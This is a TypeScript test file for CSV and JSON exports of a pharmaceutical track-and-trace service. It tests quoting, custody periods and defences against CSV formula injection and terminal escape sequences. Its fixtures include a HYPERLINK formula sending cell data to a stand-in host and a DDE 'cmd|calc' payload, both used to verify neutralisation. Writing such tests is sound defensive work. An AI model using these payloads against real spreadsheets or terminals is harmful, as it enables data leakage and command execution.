// Tracing CSV reports: RFC 4180 quoting by csv-stringify, read back by csv-parse as a spreadsheet would.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parse } from 'csv-parse/sync';
import { custodyPeriods } from './backward-trace.service';
import { backwardTraceCsv, FORWARD_CSV_COLUMNS, forwardTraceCsv, recallProgressCsv, safeCsvText, terminalSafeJson } from './trace-csv';
import { emptyCounts } from './recall-progress-buckets';
import { TracedPack, TracedPackShipment } from './trace-views';

const pack = (id: string, over: Partial<TracedPack> = {}): TracedPack => ({
  id, batchId: 'batch:09501101530008/L1', gtin: '09501101530008', lot: 'L1', state: 'active', custodianId: 'northline', custodianName: 'Northline, "North" Ltd',
  custodianGln: '7612345000015', containerId: null, outermostContainerId: null, shipmentId: null, shipmentFromId: null, shipmentToId: null, shippedAt: null, ...over,
});

describe('tracing CSV', () => {
  it('forward: one row per pack, the header on the first page only, commas and quotes escaped, the dispense joined by pack', () => {
    const dispense = { packId: 'sgtin:09501101530008.B', pharmacyId: 'central', pharmacyName: 'Central Pharmacy', pharmacyGln: '7612345000022', dispensedAt: '2026-03-01T10:00:00.000Z', prescriptionId: 'rx-1', patientPseudonym: 'a'.repeat(64) };
    const first = forwardTraceCsv({ packs: [pack('sgtin:09501101530008.A'), pack('sgtin:09501101530008.B', { state: 'supplied' })], dispenses: [dispense] }, true);
    const rows = parse(first) as string[][];
    assert.deepEqual(rows[0], [...FORWARD_CSV_COLUMNS]);
    assert.equal(rows.length, 3);
    assert.equal(rows[1][6], 'Northline, "North" Ltd');
    assert.equal(rows[1][14], '');
    assert.deepEqual(rows[2].slice(14), ['central', 'Central Pharmacy', '7612345000022', '2026-03-01T10:00:00.000Z', 'rx-1', 'a'.repeat(64)]);
    const next = parse(forwardTraceCsv({ packs: [pack('sgtin:09501101530008.C')], dispenses: [] }, false)) as string[][];
    assert.deepEqual(next.map((r) => r[0]), ['sgtin:09501101530008.C']);
  });

  it('recall progress: one row per custodian line, then the totals', () => {
    const line = { participantId: 'northline', name: 'Northline', gln: '1', ...emptyCounts(), inChain: 3, total: 3 };
    const csv = recallProgressCsv({
      recallId: 'recall:r-00000001', class: 'I', state: 'open', reason: 'assay', initiatorId: 'reg', initiatedAt: '2026-03-01T00:00:00.000Z', batches: [],
      totals: { ...emptyCounts(), inChain: 3, total: 3 }, byCustodian: [line], byCustodianOmitted: 0, holders: [], holdersOmitted: 0, elsewhereHolders: null,
    });
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(rows.map((r) => [r.participant_id, r.inChain, r.total]), [['northline', '3', '3'], ['TOTAL', '3', '3']]);
  });

  it('backward: custody periods end at shipping and start at receipt; refused and voided shipments leave the goods with the sender', () => {
    const s = (id: string, from: string, to: string, state: string, shippedAt: string, closedAt: string | null): TracedPackShipment => ({ id, fromId: from, toId: to, state, shippedAt, closedAt, via: 'x' });
    const periods = custodyPeriods({ participantId: 'maker', at: 't0' }, [
      s('s1', 'maker', 'northline', 'refused', 't1', 't2'),
      s('s2', 'maker', 'northline', 'received', 't3', 't4'),
      s('s3', 'northline', 'central', 'in_transit', 't5', null),
    ]);
    assert.deepEqual(periods, [
      { participantId: 'maker', since: 't0', until: 't3', arrivedBy: null },
      { participantId: 'northline', since: 't4', until: 't5', arrivedBy: 's2' },
    ]);
    const csv = backwardTraceCsv({
      packId: 'sgtin:1', state: null, ingredientLots: [], shipments: [], temperatureVerdicts: [], truncated: false,
      custodians: periods.map((p) => ({ ...p, name: p.participantId, gln: '' })),
      batch: { id: 'batch:1/L', gtin: '1', lot: 'L', productName: 'P', manufacturedOn: '2026-01-01', expiresOn: '2028-01-01', manufacturerId: 'maker', manufacturerName: 'M', manufacturerGln: '3' },
    });
    const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;
    assert.deepEqual(rows.map((r) => r.section), ['batch', 'custodian', 'custodian']);
  });

  describe('CSV injection (OWASP) and control characters', () => {
    const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
    const readBack = (csv: string): string[][] => parse(csv, { relax_column_count: true }) as string[][];

    it('a text cell starting with =, +, -, @, TAB or CR gets a leading apostrophe; anything else is left alone', () => {
      for (const t of TRIGGERS) {
        const out = safeCsvText(`${t}HYPERLINK("http://evil.example/?x="&A1,"Click")`);
        assert.equal(out[0], "'", JSON.stringify(t));
        assert.ok(!/[\t\r]/.test(out), 'TAB and CR are replaced too');
      }
      for (const ok of ['Northline Ltd', 'sgtin:09501101530008.A', '2026-03-01T10:00:00.000Z', 'a=b', ' =1+1', '']) assert.equal(safeCsvText(ok), ok);
    });

    it('C0 and C1 controls, DEL and bidi controls become U+FFFD', () => {
      const controls = ['\u0000', '\u0007', '\n', '\u001b', '\u007f', '\u0080', '\u009b', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069'];
      for (const c of controls) assert.equal(safeCsvText(`Central${c}Pharmacy`), 'Central\uFFFDPharmacy', JSON.stringify(c));
      assert.equal(safeCsvText('\u001b[31m=cmd'), '\uFFFD[31m=cmd', 'an escape sequence before a trigger is defused as a whole');
      assert.equal(safeCsvText('Ünïcödé Pharmacie – Zürich'), 'Ünïcödé Pharmacie – Zürich', 'ordinary text, accents and dashes untouched');
    });

    it('forward, backward and recall-progress CSVs neutralise participant names, ingredient materials and reasons', () => {
      const evil = (t: string) => `${t}cmd|' /C calc'!A0`;
      for (const t of TRIGGERS) {
        const forward = readBack(forwardTraceCsv({
          packs: [pack('sgtin:1', { custodianName: evil(t) })],
          dispenses: [{ packId: 'sgtin:1', pharmacyId: 'p', pharmacyName: evil(t), pharmacyGln: '1', dispensedAt: 'x', prescriptionId: 'rx', patientPseudonym: 'a' }],
        }, false));
        assert.equal(forward[0][6], `'${evil(t)}`.replace(/[\t\r]/g, '\uFFFD'));
        assert.equal(forward[0][15], `'${evil(t)}`.replace(/[\t\r]/g, '\uFFFD'));

        const backward = readBack(backwardTraceCsv({
          packId: 'sgtin:1', state: null, shipments: [], temperatureVerdicts: [], truncated: false,
          ingredientLots: [{ id: 'ingredient-lot:s/1', material: evil(t), supplierId: 's', supplierName: evil(t), supplierGln: '1', certificate: null }],
          custodians: [{ participantId: 'm', name: evil(t), gln: '1', since: 't0', until: null, arrivedBy: null }],
          batch: { id: 'batch:1/L', gtin: '1', lot: 'L', productName: evil(t), manufacturedOn: '2026-01-01', expiresOn: '2028-01-01', manufacturerId: 'm', manufacturerName: evil(t), manufacturerGln: '3' },
        }));
        for (const row of backward.slice(1)) {
          for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) && !/[\u0000-\u001f]/.test(cell), `backward cell ${JSON.stringify(cell)}`);
        }
        assert.equal(backward[2][8], `'${evil(t)}; no certificate`.replace(/[\t\r]/g, '\uFFFD'), 'the ingredient material');

        const line = { participantId: 'p', name: evil(t), gln: '1', ...emptyCounts() };
        const progress = readBack(recallProgressCsv({
          recallId: 'recall:r', class: 'I', state: 'open', reason: evil(t), initiatorId: 'reg', initiatedAt: 'x', batches: [],
          totals: emptyCounts(), byCustodian: [line], byCustodianOmitted: 0, holders: [], holdersOmitted: 0, elsewhereHolders: null,
        }));
        assert.equal(progress[1][1], `'${evil(t)}`.replace(/[\t\r]/g, '\uFFFD'));
      }
    });

    it('JSON for a terminal: every control and bidi character escaped, the parsed value unchanged', () => {
      const value = { name: 'Evil\u001b]0;pwned\u0007\u009b2J\u202eLtd\u2066\u2028', n: 1 };
      const text = terminalSafeJson(value);
      assert.ok(!/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/.test(text), text);
      assert.deepEqual(JSON.parse(text), value);
    });
  });
});
